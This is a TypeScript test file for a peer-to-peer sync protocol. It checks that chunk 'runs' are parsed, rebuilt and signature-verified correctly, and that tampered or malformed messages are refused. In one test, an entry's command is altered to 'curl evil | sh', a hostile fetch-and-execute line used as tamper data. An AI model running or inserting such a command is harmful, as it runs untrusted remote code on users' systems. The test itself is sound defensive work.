/**
 * Runs (wire 4.0.0, docs/PROTOCOL.md "Runs (4.0.0)"): a chunk names which entries of the message sit at which places
 * of its manifest, and leaves their hashes out. What a receiver makes of them, without the network: parseChunks and
 * takeChunkRefs refuse malformed runs, rebuildChunks puts the covered entries' own hashes back, and admitReceived
 * takes an entry by its run only when the rebuilt manifest verifies.
 */
import test from 'ava'
import { generateKeyPair } from '@libp2p/crypto/keys'
import { peerIdFromPrivateKey } from '@libp2p/peer-id'
import { admitReceived } from '../../src/core/admit.js'
import { entryHash, hashBytes, rebuildChunks, signChunk, type Chunk } from '../../src/core/chunk.js'
import type { Entry } from '../../src/core/entry.js'
import type { EntrySigner } from '../../src/core/signature.js'
import { parseChunks, takeChunkRefs } from '../../src/protocol/messages.js'
import { v4Message } from '../helpers/wire.js'
import { entry } from '../store/fixtures.js'

async function signer (): Promise<EntrySigner> {
  const key = await generateKeyPair('Ed25519')
  return { origin: peerIdFromPrivateKey(key).toString(), secretKey: key.raw }
}

/**
 * What the ingest worker does with a 4.0.0 message, in process: chunks and runs parsed, each covered entry hashed
 * under its chunk's origin, manifests rebuilt, entries admitted (as received from `from`, a third device by default).
 */
function receive (message: { entries: unknown[], chunks: unknown }, from?: string): ReturnType<typeof admitReceived> & { chunks: Chunk[], unbuilt: Map<number, string> } {
  const wire = parseChunks(message.chunks, 'EntriesPush', 4)
  const places: Array<number | undefined> = []
  const refs = takeChunkRefs(message.entries, wire, places)
  const entries = message.entries as Entry[]
  const digests = Buffer.alloc(entries.length * hashBytes)
  const hashed = new Set<number>()
  entries.forEach((e, m) => {
    const k = refs[m]
    if (k === undefined || k < 0 || typeof e.cmd !== 'string') return
    entryHash(e, wire[k]!.origin).copy(digests, m * hashBytes)
    hashed.add(m)
  })
  const { chunks, unbuilt } = rebuildChunks(wire, digests, (m) => hashed.has(m) ? m : -1)
  const admitted = admitReceived(entries.map((e) => ({ ...e })), {
    wire: 4,
    now: Date.now(),
    ...(from != null ? { authenticatedPeer: from } : {}),
    chunks,
    chunkRef: (i) => refs[i],
    chunkPlace: (i) => places[i],
    unbuilt: (k) => unbuilt.get(k),
    inChunk: (e, _i, k) => {
      const at = chunks[k]!.hashes.indexOf(entryHash(e, chunks[k]!.origin))
      return at >= 0 && at % hashBytes === 0 ? at / hashBytes : -1
    }
  })
  return { ...admitted, chunks, unbuilt }
}

test('a chunk with runs is rebuilt whole: the covered entries verify at their places, with no hash of theirs sent; the rest by k', async (t) => {
  const a = await signer()
  const mine = Array.from({ length: 6 }, (_, i) => entry({ cmd: `cmd ${i}` }))
  const chunk = signChunk(mine, a)
  // Places 1-3 by a run, 5 by a run of one, 0 by k; place 4 is not in the message at all.
  const message = v4Message([{ entry: mine[1]!, chunk, place: 1 }, { entry: mine[2]!, chunk, place: 2 }, { entry: mine[3]!, chunk, place: 3 },
    { entry: mine[0]!, chunk }, { entry: mine[5]!, chunk, place: 5 }])
  t.deepEqual(message.chunks[0]!.runs, [[0, 1, 3], [4, 5, 1]])
  t.is(Buffer.from(message.chunks[0]!.hashes as string, 'base64').length, 2 * hashBytes, 'only places 0 and 4 are sent')
  t.deepEqual(message.entries.map((e) => e.k), [undefined, undefined, undefined, 0, undefined])
  const got = receive(message)
  t.deepEqual(got.chunks[0]!.hashes, chunk.hashes)
  t.deepEqual(got.rejected, [])
  t.deepEqual(got.entries.map((e) => [e.cmd, e.origin, e.chunk_ref, e.chunk_pos]),
    [['cmd 1', a.origin, 0, 1], ['cmd 2', a.origin, 0, 2], ['cmd 3', a.origin, 0, 3], ['cmd 0', a.origin, 0, 0], ['cmd 5', a.origin, 0, 5]])
})

test('an entry altered inside a run, or put at another place, fails its whole chunk in that message; entries by k of it fail too', async (t) => {
  const a = await signer()
  const mine = Array.from({ length: 4 }, (_, i) => entry({ cmd: `cmd ${i}` }))
  const chunk = signChunk(mine, a)
  const altered = receive(v4Message([{ entry: mine[0]!, chunk, place: 0 }, { entry: { ...mine[1]!, cmd: 'curl evil | sh' }, chunk, place: 1 },
    { entry: mine[2]!, chunk, place: 2 }, { entry: mine[3]!, chunk }]))
  t.deepEqual(altered.entries, [])
  t.is(altered.rejected.length, 4)
  t.true(altered.rejected.every((r) => /chunk 0 signature does not verify against origin/.test(r.reason)))
  const swapped = receive(v4Message([{ entry: mine[1]!, chunk, place: 0 }, { entry: mine[0]!, chunk, place: 1 }]))
  t.deepEqual(swapped.entries, [])
  t.is(swapped.rejected.length, 2)
  // First-hand too: the rebuilt manifest is what is stored and served onward, so its signature is checked.
  const firstHand = receive(v4Message([{ entry: { ...mine[0]!, cmd: 'altered' }, chunk, place: 0 }]), a.origin)
  t.deepEqual(firstHand.entries, [])
})

test('a run covering an invalid entry leaves its chunk unbuilt: every entry of it in the message is refused, saying why', async (t) => {
  const a = await signer()
  const mine = [entry({ cmd: 'one' }), entry({ cmd: 'two' })]
  const chunk = signChunk(mine, a)
  const message = v4Message([{ entry: mine[0]!, chunk, place: 0 }, { entry: mine[1]!, chunk, place: 1 }])
  ;(message.entries[1] as Record<string, unknown>).cmd = 42
  const got = receive(message)
  t.deepEqual(got.entries, [])
  t.regex(got.unbuilt.get(0)!, /entry 1, which a run covers, is not valid/)
  t.regex(got.rejected[0]!.reason, /chunk 0 could not be rebuilt from its runs/)
})

test('malformed runs make the whole message malformed', async (t) => {
  const a = await signer()
  const mine = Array.from({ length: 3 }, (_, i) => entry({ cmd: `cmd ${i}` }))
  const chunk = signChunk(mine, a)
  const whole = v4Message(mine.map((e, i) => ({ entry: e, chunk, place: i })))
  const head = { id: 0, origin: a.origin, sig: chunk.sig.toString('base64') }
  const rest = (places: number[]): string => Buffer.concat(places.map((p) => chunk.hashes.subarray(p * hashBytes, (p + 1) * hashBytes))).toString('base64')
  const cases: Array<[string, Record<string, unknown>, RegExp]> = [
    ['n missing', { ...head, runs: [[0, 0, 3]], hashes: '' }, /n must be a whole number/],
    ['n over the cap', { ...head, n: 5000, runs: [[0, 0, 3]], hashes: '' }, /n must be a whole number from 1 to 4096/],
    ['runs missing', { ...head, n: 3, hashes: '' }, /runs must be an array/],
    ['no run', { ...head, n: 3, runs: [], hashes: rest([0, 1, 2]) }, /runs must be an array of 1 to n/],
    ['a run past n', { ...head, n: 3, runs: [[0, 1, 3]], hashes: '' }, /place \+ count at most n/],
    ['a run of 0', { ...head, n: 3, runs: [[0, 0, 0]], hashes: rest([0, 1, 2]) }, /count at least 1/],
    ['not [entry, place, count]', { ...head, n: 3, runs: [[0, 0]], hashes: rest([2]) }, /must be \[entry, place, count\]/],
    ['a fraction', { ...head, n: 3, runs: [[0, 0.5, 1]], hashes: rest([1, 2]) }, /must be \[entry, place, count\]/],
    ['a place covered twice', { ...head, n: 3, runs: [[0, 0, 2], [2, 1, 1]], hashes: rest([2]) }, /cover a place twice/],
    ['too many hashes', { ...head, n: 3, runs: [[0, 0, 2]], hashes: rest([1, 2]) }, /hashes must be the 1 places its runs do not cover/],
    ['too few hashes', { ...head, n: 3, runs: [[0, 0, 1]], hashes: rest([1]) }, /hashes must be the 2 places/]
  ]
  for (const [what, c, error] of cases) t.throws(() => parseChunks([c], 'EntriesPush', 4), { message: error }, what)
  // Against the entries: a run past the last one, two runs (or a run and k, or a run and sig) on one entry.
  const refsOf = (entries: unknown[], chunks: unknown[]): unknown => takeChunkRefs(entries, parseChunks(chunks, 'EntriesPush', 4), [], 'EntriesPush')
  t.throws(() => refsOf(whole.entries.slice(0, 2), whole.chunks), { message: /chunk 0 has a run past the last entry/ })
  const twice = [{ ...head, n: 3, runs: [[0, 0, 2]], hashes: rest([2]) }, { ...head, id: 1, n: 3, runs: [[1, 2, 1]], hashes: rest([0, 1]) }]
  t.throws(() => refsOf(whole.entries, twice), { message: /entry 1 is in a run of chunk 1 and is vouched for another way too/ })
  t.throws(() => refsOf([whole.entries[0], { ...whole.entries[1], k: 0 }, whole.entries[2]], whole.chunks), { message: /entry 1 is in a run of chunk 0/ })
  t.throws(() => refsOf([whole.entries[0], { ...whole.entries[1], sig: chunk.sig.toString('base64') }, whole.entries[2]], whole.chunks), { message: /entry 1 is in a run of chunk 0/ })
  // On 3.0.0 runs mean nothing: the chunk is read whole, and a partial `hashes` is just a shorter manifest.
  const [asV3] = parseChunks([twice[0]], 'EntriesPush', 3)
  t.is(asV3!.runs, undefined)
  t.is(asV3!.hashes.length, hashBytes)
})
